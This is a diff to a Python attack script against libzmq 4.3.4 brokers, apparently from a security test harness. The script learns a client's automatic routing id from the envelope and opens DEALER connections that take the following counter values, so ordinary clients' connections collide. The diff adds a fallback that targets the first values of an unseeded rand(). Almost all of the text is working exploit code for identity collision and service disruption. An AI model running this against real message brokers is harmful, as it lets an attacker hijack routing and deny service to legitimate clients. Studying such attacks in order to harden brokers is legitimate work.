@@ -3,6 +3,7 @@
 libzmq 4.3.4 gives peers without an id `0x00` + a 4-byte counter and does not check that value
 against ids peers chose; a fake worker learns the counter from a client's envelope, DEALERs take
 the next few hundred values, and the next ordinary client's connection collides with one of them.
+Where the envelope no longer gives the id away, it squats on rand()'s unseeded first values.
 """
 
 import time
@@ -32,19 +33,23 @@ while learned is None and time.monotonic() < deadline:
     frames = worker.recv_multipart()
     if len(frames) >= 4 and frames[2] == b"\x02":
         learned = frames[3]
-if learned is None or len(learned) != 5 or learned[0] != 0:
-    attack.finish(learned=None, note="no 5-byte automatic id seen in the envelope")
-    raise SystemExit(0)
-counter = int.from_bytes(learned[1:], "big")
-log(f"automatic routing id {learned.hex()}, counter {counter:#x}")
+# Without a 5-byte automatic id to learn (workers see something else), squat on the values an
+# unseeded rand() starts libzmq 4.3.4's counters at instead.
+if learned is not None and len(learned) == 5 and learned[0] == 0:
+    starts = [int.from_bytes(learned[1:], "big") + 1]
+    log(f"automatic routing id {learned.hex()}")
+else:
+    starts = [0x6B8B4567, 0xE43C9869]
+    log(f"no automatic id in the envelope ({learned!r}); squatting on rand()'s unseeded values")
 
-# 2. Squat on the next values: each DEALER names itself 0x00 + counter + k.
+# 2. Squat on the next values: each DEALER names itself 0x00 + a 4-byte counter value.
 squatters = []
-for k in range(1, options.squatters + 1):
-    identity = b"\x00" + ((counter + k) % 2**32).to_bytes(4, "big")
-    squatter = Client(context, options.endpoint, routing_id=identity)
-    squatter.send("mmi.service", b"books")
-    squatters.append(squatter)
+for start in starts:
+    for k in range(options.squatters):
+        identity = b"\x00" + ((start + k) % 2**32).to_bytes(4, "big")
+        squatter = Client(context, options.endpoint, routing_id=identity)
+        squatter.send("mmi.service", b"books")
+        squatters.append(squatter)
 answered = 0
 deadline = time.monotonic() + 5
 for squatter in squatters:
@@ -59,4 +64,4 @@ for _ in range(5):
     _, waited = client.call_json("catalog", {"op": "list_categories"}, timeout=2.0)
     latencies.append(round(waited * 1000, 1))
     client.close()
-attack.finish(learned=learned.hex(), squatters_attached=answered, ordinary_latencies_ms=latencies)
+attack.finish(learned=learned.hex() if learned else None, squatters_attached=answered, ordinary_latencies_ms=latencies)
